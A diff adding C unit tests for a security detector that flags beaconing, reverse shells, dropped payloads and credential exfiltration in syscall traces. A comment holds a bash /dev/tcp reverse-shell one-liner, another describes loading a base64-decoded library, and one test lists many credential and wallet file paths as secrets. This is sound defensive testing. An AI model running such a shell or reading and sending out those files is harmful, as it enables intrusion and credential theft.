@@ -585,6 +585,342 @@ Test(backdoor, allow_connect_exempts_beaconing)
 	harness_free(h);
 }
 
+/* sendto(4, ..., {127.0.0.1:5353}) on an unconnected UDP socket */
+static void datagram_to(struct harness *h, int pid, double t, const char *local, const char *addr,
+			int port)
+{
+	struct da_event ev = ev_make(DA_EV_NET_SEND, pid, t);
+	static char text[256];
+	snprintf(text, sizeof(text),
+		 "sendto(4, \"hb\", 2, 0, {sa_family=AF_INET, sin_port=htons(%d)}, 16) = 2", port);
+	ev.syscall = "sendto";
+	ev.fd = 4;
+	ev.fd_desc = local;
+	ev.family = AF_INET;
+	ev.sock_type = SOCK_DGRAM;
+	ev.addr = addr;
+	ev.port = port;
+	ev.arg[0] = 2;
+	ev.result = 2;
+	ev.text = text;
+	publish(h, &ev);
+}
+
+Test(backdoor, udp_sends_without_connect_are_beaconing)
+{
+	struct harness *h = harness_new("backdoor", NULL, NULL);
+	for (int i = 0; i < 7; i++)
+		datagram_to(h, 100, 1.0 + i, "socket:inet/dgram@0.0.0.0:38604", "127.0.0.1:5353", 5353);
+	harness_finish(h);
+	const struct harness_finding *f = harness_get(h, "backdoor.beaconing");
+	cr_assert_not_null(f);
+	cr_assert_eq(f->severity, DA_SEV_MEDIUM); /* loopback */
+	cr_assert(strstr(f->message, "127.0.0.1:5353") && strstr(f->message, "7 sends"), "%s",
+		  f->message);
+	harness_free(h);
+
+	h = harness_new("backdoor", NULL, NULL);
+	/* a stream of datagrams is one burst, not a series */
+	for (int i = 0; i < 60; i++)
+		datagram_to(h, 100, 1.0 + 0.1 * i, "socket:inet/dgram@0.0.0.0:40000",
+			    "198.51.100.9:9999", 9999);
+	/* DNS queries every second */
+	for (int i = 0; i < 6; i++)
+		datagram_to(h, 100, 1.0 + i, "socket:inet/dgram@0.0.0.0:40001", "127.0.0.53:53", 53);
+	/* sends on a connected socket repeat its connect, they are no new contact */
+	for (int i = 0; i < 6; i++)
+		send_to(h, 100, 1.0 + i, "203.0.113.7:8080");
+	/* the run's UDP client and its own echo server answering it: both ends are the run's ports */
+	for (int i = 0; i < 5; i++) {
+		datagram_to(h, 100, 1.0 + 0.5 * i, "socket:inet/dgram@0.0.0.0:41000", "127.0.0.1:5555",
+			    5555);
+		datagram_to(h, 101, 1.01 + 0.5 * i, "socket:inet/dgram@127.0.0.1:5555",
+			    "127.0.0.1:41000", 41000);
+	}
+	harness_finish(h);
+	if (harness_count(h, NULL))
+		harness_dump(h);
+	cr_assert_eq(harness_count(h, NULL), 0);
+	harness_free(h);
+}
+
+/* ---- any program on an outbound connection ------------------------------------------------ */
+
+static void exec_argv(struct harness *h, int pid, double t, const char *path, int argc,
+		      const char *const *argv, const char *in, const char *out, const char *phase,
+		      int err)
+{
+	struct da_event ev = ev_make(DA_EV_PROC_EXEC, pid, t);
+	char text[512];
+	int n = snprintf(text, sizeof(text), "execve(\"%s\", [", path);
+	for (int i = 0; i < argc && n > 0 && (size_t)n < sizeof(text); i++)
+		n += snprintf(text + n, sizeof(text) - (size_t)n, "%s\"%s\"", i ? ", " : "", argv[i]);
+	if (n > 0 && (size_t)n < sizeof(text))
+		snprintf(text + n, sizeof(text) - (size_t)n, "], ...) = %s",
+			 err ? "-1 ENOENT (No such file or directory)" : "0");
+	ev.syscall = "execve";
+	ev.path = path;
+	ev.argv = argv;
+	ev.argc = argc;
+	ev.stdio[0] = in;
+	ev.stdio[1] = out;
+	ev.stdio[2] = out;
+	ev.phase = phase;
+	ev.text = text;
+	if (err)
+		fail_with(&ev, err, "ENOENT");
+	publish(h, &ev);
+}
+
+#define EXEC(h, pid, t, path, in, out, ...)                                                    \
+	do {                                                                                   \
+		static const char *const argv_[] = {__VA_ARGS__};                              \
+		exec_argv(h, pid, t, path, (int)(sizeof(argv_) / sizeof(argv_[0])), argv_, in, \
+			  out, NULL, 0);                                                       \
+	} while (0)
+
+Test(backdoor, any_program_with_stdout_on_an_outbound_connection_is_a_reverse_shell)
+{
+	/* exec 5<>/dev/tcp/127.0.0.1/4444; while read cmd <&5; do eval "$cmd" >&5 2>&5; done */
+	static const char *const sock = "socket:inet/stream->127.0.0.1:4444";
+	struct harness *h = harness_new("backdoor", NULL, NULL);
+	EXEC(h, 200, 0.0, "/usr/bin/bash", "/dev/null", "pipe", "bash", "main.sh");
+	connect_to(h, 200, 1.0, 3, "127.0.0.1:4444", 4444, 0);
+	fork_child(h, 200, 201, 1.1);
+	EXEC(h, 201, 1.2, "/usr/bin/id", "/dev/null", sock, "id");
+	const struct harness_finding *f = harness_get(h, "backdoor.reverse_shell");
+	cr_assert_not_null(f);
+	cr_assert_eq(f->severity, DA_SEV_CRITICAL);
+	cr_assert(strstr(f->message, "/usr/bin/id") && strstr(f->message, "127.0.0.1:4444") &&
+		  strstr(f->message, "bash"), "%s", f->message);
+	cr_assert_geq(f->n_evidence, 2);
+	/* one finding per destination */
+	fork_child(h, 200, 202, 1.3);
+	EXEC(h, 202, 1.4, "/usr/bin/cat", sock, sock, "cat", "/etc/hostname");
+	cr_assert_eq(harness_count(h, "backdoor.reverse_shell"), 1);
+	harness_free(h);
+
+	/* an inetd-style server hands an accepted client to a handler */
+	h = harness_new("backdoor", NULL, NULL);
+	struct da_event acc = ev_make(DA_EV_NET_ACCEPT, 300, 1.0);
+	acc.syscall = "accept";
+	acc.fd = 3;
+	acc.target_fd = 4;
+	acc.fd_desc = "socket:inet/stream@0.0.0.0:7000";
+	acc.family = AF_INET;
+	acc.addr = "127.0.0.1:40000";
+	acc.result = 4;
+	acc.text = "accept(3, {sa_family=AF_INET, sin_port=htons(40000)}, [16]) = 4";
+	publish(h, &acc);
+	/* the server is also a client of another local service */
+	connect_to(h, 300, 1.05, 5, "127.0.0.1:6379", 6379, 0);
+	fork_child(h, 300, 301, 1.1);
+	dup_fd(h, 301, 1.15, 4, 0);
+	dup_fd(h, 301, 1.15, 4, 1);
+	EXEC(h, 301, 1.2, "/home/auditor/app/handler", "socket:inet/stream->127.0.0.1:40000",
+	     "socket:inet/stream->127.0.0.1:40000", "./handler");
+	/* a log daemon's unix socket on stdout */
+	EXEC(h, 302, 1.3, "/usr/bin/logger", "/dev/null", "socket:unix/stream->/dev/log", "logger");
+	/* a socket on stdio the run never connected itself */
+	EXEC(h, 303, 1.4, "/usr/bin/cat", "socket:inet/stream->10.1.1.1:80",
+	     "socket:inet/stream->10.1.1.1:80", "cat");
+	harness_finish(h);
+	if (harness_count(h, NULL))
+		harness_dump(h);
+	cr_assert_eq(harness_count(h, NULL), 0);
+	harness_free(h);
+
+	/* a loopback connection to an allow_connect entry is the assignment's server */
+	h = harness_new("backdoor", "allow_connect: [\"127.0.0.1:5555\"]\n", NULL);
+	connect_to(h, 200, 1.0, 3, "127.0.0.1:5555", 5555, 0);
+	fork_child(h, 200, 201, 1.1);
+	EXEC(h, 201, 1.2, "/usr/bin/cat", "/dev/null", "socket:inet/stream->127.0.0.1:5555", "cat",
+	     "msg.txt");
+	harness_finish(h);
+	cr_assert_eq(harness_count(h, NULL), 0);
+	harness_free(h);
+}
+
+/* ---- code run through an interpreter or the loader ------------------------------------------ */
+
+Test(backdoor, dropped_script_run_by_an_interpreter_is_a_dropped_payload)
+{
+	struct harness *h = harness_new("backdoor", NULL, NULL);
+	EXEC(h, 100, 0.0, "/usr/bin/python3", "/dev/null", "pipe", "python3", "main.py");
+	open_file(h, 100, 1.0, "/tmp/.upd.py", WRITE_NEW, 0);
+	open_file(h, 100, 1.1, "/tmp/.upd.sh", WRITE_NEW, 0);
+	open_file(h, 100, 1.2, "/dev/shm/u.pl", WRITE_NEW, 0);
+	open_file(h, 100, 1.3, "/tmp/.m.js", WRITE_NEW, 0);
+	fork_child(h, 100, 101, 2.0);
+	/* the PATH search miss before the real interpreter adds nothing */
+	static const char *const py_argv[] = {"python3", "-u", "/tmp/.upd.py"};
+	exec_argv(h, 101, 2.05, "/usr/local/bin/python3", 3, py_argv, "pipe", "pipe", NULL, ENOENT);
+	cr_assert_eq(harness_count(h, "backdoor.dropped_payload"), 0);
+	exec_argv(h, 101, 2.1, "/usr/bin/python3", 3, py_argv, "pipe", "pipe", NULL, 0);
+	const struct harness_finding *f = harness_get(h, "backdoor.dropped_payload");
+	cr_assert_not_null(f);
+	cr_assert_eq(f->severity, DA_SEV_CRITICAL);
+	cr_assert(strstr(f->message, "/tmp/.upd.py") && strstr(f->message, "python3"), "%s",
+		  f->message);
+	cr_assert_eq(f->n_evidence, 2);
+	cr_assert(strstr(f->evidence[0], "openat") && strstr(f->evidence[1], "execve"));
+	EXEC(h, 102, 2.2, "/usr/bin/sh", "pipe", "pipe", "sh", "-e", "-o", "errexit", "/tmp/.upd.sh");
+	EXEC(h, 103, 2.3, "/usr/bin/perl", "pipe", "pipe", "perl", "-w", "/dev/shm/u.pl");
+	EXEC(h, 104, 2.4, "/usr/bin/node", "pipe", "pipe", "node", "--require", "x", "/tmp/.m.js");
+	cr_assert_eq(harness_count(h, "backdoor.dropped_payload"), 4);
+	/* code given on the command line: the file is an argument of that code */
+	EXEC(h, 105, 2.5, "/usr/bin/python3", "pipe", "pipe", "python3", "-c", "print(1)",
+	     "/tmp/.upd.py");
+	EXEC(h, 106, 2.6, "/usr/bin/bash", "pipe", "pipe", "bash", "-c", "true", "/tmp/.upd.sh");
+	cr_assert_eq(harness_count(h, "backdoor.dropped_payload"), 4);
+	/* relative to the working directory */
+	struct da_event cd = ev_make(DA_EV_FILE_CHDIR, 107, 2.7);
+	cd.syscall = "chdir";
+	cd.path = "/tmp";
+	cd.text = "chdir(\"/tmp\") = 0";
+	publish(h, &cd);
+	open_file(h, 107, 2.75, "/tmp/.next.rb", WRITE_NEW, 0);
+	EXEC(h, 107, 2.8, "/usr/bin/ruby", "pipe", "pipe", "ruby", "./sub/../.next.rb");
+	cr_assert_not_null(harness_find(h, "backdoor.dropped_payload", "/tmp/.next.rb"));
+	harness_free(h);
+
+	/* a script written by target.setup, and the submission's own scripts */
+	h = harness_new("backdoor", NULL, NULL);
+	struct da_event gen = ev_make(DA_EV_FILE_OPEN, 90, 0.1);
+	gen.syscall = "openat";
+	gen.path = "/tmp/gen-config.sh";
+	gen.access = WRITE_NEW;
+	gen.phase = "setup";
+	gen.result = 3;
+	gen.fd = 3;
+	gen.text = "openat(AT_FDCWD, \"/tmp/gen-config.sh\", O_WRONLY|O_CREAT|O_TRUNC) = 3";
+	publish(h, &gen);
+	EXEC(h, 100, 1.0, "/usr/bin/sh", "pipe", "pipe", "sh", "/tmp/gen-config.sh");
+	EXEC(h, 101, 1.1, "/usr/bin/python3", "pipe", "pipe", "python3", "server.py");
+	EXEC(h, 102, 1.2, "/usr/bin/bash", "pipe", "pipe", "bash", "run.sh");
+	harness_finish(h);
+	cr_assert_eq(harness_count(h, NULL), 0);
+	harness_free(h);
+}
+
+Test(backdoor, program_run_through_the_dynamic_loader)
+{
+	struct harness *h = harness_new("backdoor", NULL, NULL);
+	EXEC(h, 100, 0.0, "/usr/bin/python3", "/dev/null", "pipe", "python3", "main.py");
+	open_file(h, 100, 1.0, "/tmp/.cache-x", WRITE_NEW, 0);
+	EXEC(h, 101, 1.1, "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2", "pipe", "pipe",
+	     "/lib64/ld-linux-x86-64.so.2", "/tmp/.cache-x");
+	cr_assert_eq(harness_max_severity(h, "backdoor.dropped_payload"), DA_SEV_CRITICAL);
+	/* an ordinary name in the workdir, written by the script, not a compiler */
+	open_file(h, 100, 2.0, "/home/auditor/app/build.dat", WRITE_NEW, 0);
+	EXEC(h, 102, 2.1, "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2", "pipe", "pipe",
+	     "/lib64/ld-linux-x86-64.so.2", "--argv0", "x", "./build.dat", "-a");
+	const struct harness_finding *f =
+		harness_find(h, "backdoor.dropped_payload", "/home/auditor/app/build.dat");
+	cr_assert_not_null(f);
+	cr_assert_eq(f->severity, DA_SEV_HIGH);
+	cr_assert(strstr(f->message, "python3"), "%s", f->message);
+	/* a program in /tmp the run was not seen writing */
+	EXEC(h, 103, 2.2, "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2", "pipe", "pipe",
+	     "ld.so", "/tmp/runme");
+	cr_assert_not_null(harness_find(h, "backdoor.dropped_payload", "/tmp/runme"));
+	cr_assert_eq(harness_count(h, "backdoor.dropped_payload"), 3);
+	harness_free(h);
+
+	/* a build in the run: the linker writes ./app, the loader runs it */
+	h = harness_new("backdoor", NULL, NULL);
+	EXEC(h, 93, 0.3, "/usr/bin/ld", "/dev/null", "pipe", "ld", "-o", "app");
+	open_file(h, 93, 0.4, "/home/auditor/app/app", WRITE_NEW, 0);
+	EXEC(h, 94, 0.5, "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2", "pipe", "pipe",
+	     "ld.so", "./app");
+	EXEC(h, 95, 0.6, "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2", "pipe", "pipe",
+	     "ld.so", "--list", "/usr/bin/ls");
+	harness_finish(h);
+	cr_assert_eq(harness_count(h, NULL), 0);
+	harness_free(h);
+}
+
+Test(backdoor, library_an_interpreter_wrote_in_the_workdir_is_a_dropped_payload)
+{
+	/* open("libfastmath.so", "wb").write(base64.b64decode(BLOB)); ctypes.CDLL(...) */
+	struct harness *h = harness_new("backdoor", NULL, NULL);
+	EXEC(h, 100, 0.0, "/usr/bin/python3", "/dev/null", "pipe", "python3", "main.py");
+	open_file(h, 100, 1.0, "/home/auditor/app/libfastmath.so", WRITE_NEW, 0);
+	mmap_exec(h, 100, 1.1, "/home/auditor/app/libfastmath.so");
+	const struct harness_finding *f = harness_get(h, "backdoor.dropped_payload");
+	cr_assert_not_null(f);
+	cr_assert_eq(f->severity, DA_SEV_HIGH);
+	cr_assert(strstr(f->message, "libfastmath.so") && strstr(f->message, "python3"), "%s",
+		  f->message);
+	cr_assert_eq(f->n_evidence, 2);
+	harness_free(h);
+
+	/* a C build (setup or run) producing the library, and pip unpacking a wheel */
+	h = harness_new("backdoor", NULL, NULL);
+	EXEC(h, 90, 0.0, "/usr/bin/make", "/dev/null", "pipe", "make");
+	struct da_event so = ev_make(DA_EV_FILE_OPEN, 91, 0.1);
+	so.syscall = "openat";
+	so.path = "/home/auditor/app/libchat.so";
+	so.access = WRITE_NEW;
+	so.phase = "setup";
+	so.result = 3;
+	so.fd = 3;
+	so.text = "openat(AT_FDCWD, \"libchat.so\", O_RDWR|O_CREAT|O_TRUNC, 0777) = 3";
+	publish(h, &so);
+	EXEC(h, 92, 0.5, "/usr/bin/ld", "/dev/null", "pipe", "ld", "-shared", "-o", "libfast.so");
+	open_file(h, 92, 0.6, "/home/auditor/app/libfast.so", WRITE_NEW, 0);
+	fork_child(h, 92, 93, 0.65); /* a linker thread-pool child writes for it */
+	open_file(h, 93, 0.7, "/home/auditor/app/libfast2.so", WRITE_NEW, 0);
+	EXEC(h, 100, 1.0, "/usr/bin/python3", "/dev/null", "pipe", "python3", "main.py");
+	open_file(h, 100, 1.1, "/home/auditor/app/lib/site-packages/numpy/_core.cpython-311.so",
+		  WRITE_NEW, 0);
+	mmap_exec(h, 100, 2.0, "/home/auditor/app/libchat.so");
+	mmap_exec(h, 100, 2.1, "/home/auditor/app/libfast.so");
+	mmap_exec(h, 100, 2.2, "/home/auditor/app/libfast2.so");
+	mmap_exec(h, 100, 2.3, "/home/auditor/app/lib/site-packages/numpy/_core.cpython-311.so");
+	harness_finish(h);
+	if (harness_count(h, NULL))
+		harness_dump(h);
+	cr_assert_eq(harness_count(h, NULL), 0);
+	harness_free(h);
+}
+
+/* ---- more secrets ---------------------------------------------------------------------------- */
+
+Test(backdoor, developer_and_system_credentials_are_secrets)
+{
+	static const char *const paths[] = {
+		"/home/auditor/.python_history", "/home/auditor/.mysql_history",
+		"/home/auditor/.psql_history", "/home/auditor/.config/gh/hosts.yml",
+		"/home/auditor/.config/rclone/rclone.conf",
+		"/home/auditor/.terraform.d/credentials.tfrc.json", "/home/auditor/.m2/settings.xml",
+		"/home/auditor/.gradle/gradle.properties", "/home/auditor/.cargo/credentials",
+		"/home/auditor/.cargo/credentials.toml", "/home/auditor/.config/hub",
+		"/home/auditor/.s3cfg", "/home/auditor/.boto", "/home/auditor/.bitcoin/wallet.dat",
+		"/home/auditor/.electrum/wallets/default_wallet", "/etc/wireguard/wg0.conf",
+		"/etc/NetworkManager/system-connections/home.nmconnection",
+		"/var/lib/postgresql/.pgpass", "/dev/mem", "/proc/kcore",
+		/* already listed */
+		"/home/auditor/.local/share/keyrings/login.keyring"};
+	for (size_t i = 0; i < sizeof(paths) / sizeof(paths[0]); i++) {
+		struct harness *h = harness_new("backdoor", NULL, NULL);
+		open_file(h, 100, 1.0, paths[i], DA_ACC_READ, 0);
+		connect_to(h, 100, 1.5, 4, "203.0.113.9:443", 443, ENETUNREACH);
+		cr_assert_eq(harness_count(h, "backdoor.exfiltration"), 1, "%s", paths[i]);
+		harness_free(h);
+	}
+	/* look-alikes and the program's own files are not */
+	static const char *const not_secrets[] = {"/home/auditor/.botox", "/home/auditor/.config/hubris",
+						  "/dev/memory", "/home/auditor/app/.s3cfg"};
+	for (size_t i = 0; i < sizeof(not_secrets) / sizeof(not_secrets[0]); i++) {
+		struct harness *h = harness_new("backdoor", NULL, NULL);
+		open_file(h, 100, 1.0, not_secrets[i], DA_ACC_READ, 0);
+		connect_to(h, 100, 1.5, 4, "203.0.113.9:443", 443, ENETUNREACH);
+		cr_assert_eq(harness_count(h, "backdoor.exfiltration"), 0, "%s", not_secrets[i]);
+		harness_free(h);
+	}
+}
+
 /* ---- configuration ---------------------------------------------------------------------- */
 
 Test(backdoor, unknown_option_is_rejected)
